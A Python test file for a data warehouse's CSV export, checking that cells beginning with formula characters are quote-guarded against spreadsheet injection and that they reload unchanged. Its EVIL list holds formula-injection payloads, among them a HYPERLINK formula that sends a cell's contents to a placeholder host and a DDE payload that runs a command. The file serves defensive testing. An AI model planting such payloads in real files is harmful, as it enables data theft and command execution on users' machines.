"""No cell of a CSV file is evaluated by a spreadsheet, unless asked; and loading it again gives what was delivered."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import psycopg
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.command import SAMPLE, Program
from warehouse.dashboard.tables import csv as downloaded
from warehouse.formulas import GUARDED, guarded, may_be_guarded

EVIL = [
    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    "'=1",
]
PLAIN = ["Lamp", "-5", "+49.5", "a=b", "'t Hof", "1-2"]


@given(st.text(alphabet="'=+-@\t09.a"))
def test_a_cell_is_guarded_and_comes_back(text: str) -> None:
    cell = guarded(text)
    assert cell in (text, f"'{text}")
    assert not cell.startswith(("=", "@"))
    assert (cell != text) <= may_be_guarded(cell)


def products(folder: Path, names: list[str]) -> Path:
    """Write the sample with products of these names."""
    shutil.copytree(SAMPLE, folder)
    with (folder / "products.csv").open("a", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows(
            [[f"X{number}", name, "Odd", "1.50"] for number, name in enumerate(names)]
        )
    return folder


def names_in(file: Path) -> list[str]:
    """The names of these products, in the order in which they were delivered."""
    with file.open(newline="") as rows:
        found = {row["product_id"]: row["product_name"] for row in csv.DictReader(rows)}
    return [found[f"X{number}"] for number in range(len(EVIL + PLAIN))]


def test_an_export_holds_no_formulas(tmp_path: Path, database: str) -> None:
    program = Program(tmp_path, database)
    assert program("load", products(tmp_path / "in", EVIL + PLAIN)).code == 0
    assert program("export", "star", "--format", "csv").code == 0
    found = names_in(tmp_path / "star" / "dimensions" / "dim_product.csv")
    assert found == [f"'{name}" for name in EVIL] + PLAIN
    assert program("export", "star", "--verify").code == 0
    assert program("export", "star", "--format", "csv", "--raw", "--layers").code == 0
    assert names_in(tmp_path / "star" / "dimensions" / "dim_product.csv") == EVIL + PLAIN
    assert names_in(tmp_path / "star" / "bronze" / "products.csv") == EVIL + PLAIN


@pytest.mark.parametrize("options", [[], ["--raw"]], ids=["guarded", "raw"])
def test_what_was_held_back_is_loaded_again_as_it_was(tmp_path: Path, database: str, options: list[str]) -> None:
    """Records without a price are exported, corrected and loaded: their names are those that were delivered."""
    program = Program(tmp_path, database)
    (tmp_path / "warehouse.toml").write_text("[rules.SR-Q-001]\nthreshold = 0.9\n")
    folder = products(tmp_path / "in", EVIL + PLAIN)
    file = folder / "products.csv"
    file.write_text(file.read_text().replace(",Odd,1.50", ",Odd,none"))
    assert program("load", folder).code == 0
    assert program("quarantine", "export", "fix.csv", *options).code == 0
    found = names_in(tmp_path / "fix.csv")
    assert found == ([f"'{name}" for name in EVIL] + PLAIN if not options else EVIL + PLAIN)
    fixed = tmp_path / "fix.csv"
    fixed.write_text(fixed.read_text().replace(",Odd,none", ",Odd,2.50"))
    assert program("load", "--source", "products=fix.csv").code == 0
    with psycopg.connect(database) as connection:
        query = "SELECT product_name FROM gold.dim_product WHERE category = 'Odd' ORDER BY product_key"
        names = {name for (name,) in connection.execute(query)}
    assert names == {name.strip() for name in EVIL + PLAIN}


def test_a_download_of_the_dashboard_holds_no_formulas() -> None:
    table = pa.table({"name": [*EVIL, *PLAIN, None], "amount": list(range(-1, len(EVIL + PLAIN)))})
    rows = list(csv.reader(downloaded(table).decode().splitlines()))[1:]
    assert [name for name, _ in rows] == [*(f"'{name}" for name in EVIL), *PLAIN, ""]
    assert [amount for _, amount in rows][:2] == ["-1", "0"]
    assert GUARDED.startswith("^")
